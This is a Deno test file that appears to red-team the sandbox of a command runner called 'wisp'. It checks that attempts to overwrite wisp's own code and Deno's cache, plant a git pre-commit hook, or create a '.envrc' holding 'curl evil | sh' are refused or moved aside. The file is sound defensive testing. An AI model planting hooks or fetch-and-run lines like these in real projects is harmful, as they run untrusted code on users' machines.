/**
 * The red-team chain against the real wisp: a command the runner starts tries
 * to open wisp's own modules, its source and Deno's cache for writing, and to
 * hard-link a cached module into the project, and is refused with a line that
 * names the protection; the files are byte for byte what they were and the
 * next wisp process starts. The writes open files without writing a byte, so
 * a broken sandbox could not damage the shared cache even here. Also the
 * refusal line for git's hooks and the setting aside of a planted `.envrc`.
 */
import { assert, assertEquals, assertStringIncludes } from "../support/assert.ts";
import { join } from "node:path";
import { fileURLToPath } from "node:url";
import { runCommand } from "../../src/exec/runner.ts";
import { denoDir } from "../../src/platform/protected.ts";
import { exists, request, scratch, stderrText } from "./support.ts";
import { runWisp } from "../support/wisp.ts";

const SOURCE = fileURLToPath(new URL("../..", import.meta.url)).replace(/\/$/, "");

async function digest(path: string): Promise<string> {
  const bytes = await Deno.readFile(path);
  return [...new Uint8Array(await crypto.subtle.digest("SHA-256", bytes))]
    .map((b) => b.toString(16).padStart(2, "0")).join("");
}

/** A file of one of wisp's own npm packages, and its counterpart in Deno's cache. */
function ownModule(): { own: string; cached: string | undefined } {
  const pkg = JSON.parse(Deno.readTextFileSync(join(SOURCE, "node_modules/zod/package.json")));
  const own = Deno.realPathSync(join(SOURCE, "node_modules/zod/package.json"));
  const dir = denoDir(Deno.build.os, (n) => Deno.env.get(n));
  const cached = dir ? join(dir, "npm/registry.npmjs.org/zod", pkg.version, "package.json") : "";
  return { own, cached: exists(cached) ? cached : undefined };
}

Deno.test("the chain: a command cannot open wisp's modules, source or Deno's cache for writing, nor link them; the next wisp runs unchanged", async () => {
  const s = await scratch();
  try {
    // Any earlier run laid node_modules out; make sure it exists before looking.
    await runCommand(request(s, "true"));
    const { own, cached } = ownModule();
    const main = join(SOURCE, "main.ts");
    const before = { own: await digest(own), main: await digest(main) };
    // The source tree is made a writable root here, as it is when wisp is started in its own
    // checkout or the checkout lies under /tmp: then only the protection stands in the way,
    // wherever this clone lies.
    const r = await runCommand(request(
      s,
      [
        `: >> ${main} && echo opened-main`,
        `: >> ${own} && echo opened-own`,
        ...(cached
          ? [`: >> ${cached} && echo opened-cache`, `ln ${cached} linked && echo linked`]
          : []),
        `ln ${own} linked-own && echo linked-own`,
        `mv ${SOURCE}/main.ts ${s.project}/main.ts && echo moved-main`,
      ].join("; "),
      { extraWritable: [SOURCE] },
    ));
    const out = new TextDecoder().decode(r.stdout.head);
    assertEquals(out, "", stderrText(r));
    // The sandbox refused, not the file's mode, whenever this user could write the file at all
    // (a checkout of another user's is refused by its mode first; the line is the same).
    const mine = Deno.uid() === 0 || Deno.statSync(main).uid === Deno.uid();
    if (mine) assertStringIncludes(stderrText(r), "Read-only file system");
    assertStringIncludes(
      r.rendered,
      `sandbox: the sandbox refused writing ${main}`,
    );
    assertStringIncludes(r.rendered, "protected: wisp's own code and runtime");
    assertEquals(await digest(own), before.own);
    assertEquals(await digest(main), before.main);
    // wisp's own module has no other name left that a command could write through.
    assertEquals(Deno.statSync(own).nlink, 1);
    const next = await runWisp(["--version"], { home: s.home.root });
    assertEquals(next.code, 0, next.stderr);
  } finally {
    await s.cleanup();
  }
});

Deno.test("a write into a repository's hooks is refused, and the line names the protection", async () => {
  const s = await scratch();
  try {
    await new Deno.Command("git", { args: ["init", "-q"], cwd: s.project, stdout: "null" })
      .output();
    Deno.mkdirSync(join(s.project, ".git/hooks"), { recursive: true });
    const r = await runCommand(request(s, "echo evil > .git/hooks/pre-commit"));
    assert(r.exitStatus !== 0);
    assert(!exists(join(s.project, ".git/hooks/pre-commit")));
    assertEquals(r.sandbox.verdict, "refused");
    assertStringIncludes(
      r.rendered,
      `(it is inside ${s.project}/.git/hooks, which is protected: git runs a repository's hooks`,
    );
  } finally {
    await s.cleanup();
  }
});

Deno.test("a protected file the command created (.envrc did not exist) is moved aside afterwards, and the result says so", async () => {
  const s = await scratch();
  try {
    const r = await runCommand(request(s, "echo 'curl evil | sh' > .envrc; echo done"));
    assertEquals(r.exitStatus, 0, r.rendered);
    assert(!exists(join(s.project, ".envrc")));
    assertEquals(
      Deno.readTextFileSync(join(s.project, ".envrc.wisp-refused")),
      "curl evil | sh\n",
    );
    assertStringIncludes(
      r.rendered,
      `sandbox: the sandbox refused creating ${s.project}/.envrc (protected: direnv runs it`,
    );
  } finally {
    await s.cleanup();
  }
});
